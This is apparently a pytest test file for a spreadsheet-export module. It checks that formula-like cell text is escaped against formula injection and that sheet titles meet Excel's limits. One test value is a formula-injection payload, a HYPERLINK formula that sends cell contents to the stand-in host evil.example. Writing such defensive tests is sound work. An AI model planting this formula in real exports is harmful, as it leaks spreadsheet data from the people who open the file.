"""Spreadsheet formula injection (issue 22): text that a spreadsheet would run as a
formula is written as text, in every export; sheet names Excel accepts."""

from decimal import Decimal as D

import pytest

from core.common.exports import safe_cell, safe_row, sheet_title

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize("text", [EVIL, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_like_text_is_escaped(text):
    assert safe_cell(text) == "'" + text


def test_other_values_pass_through():
    assert safe_row(["Siti", 5, D("1.5"), None, "", "A=1"]) == [
        "Siti",
        5,
        D("1.5"),
        None,
        "",
        "A=1",
    ]


def test_sheet_title_drops_what_excel_refuses_and_keeps_31_characters():
    assert sheet_title("Hibah / Donasi") == "Hibah - Donasi"
    assert sheet_title("a\\b*c?d:e[f]g") == "a-bcdefg"
    assert sheet_title("x" * 40) == "x" * 31
    assert sheet_title("'kutip'") == "kutip"
    assert sheet_title(" / ") == "-"
    assert sheet_title("::") == "Data"
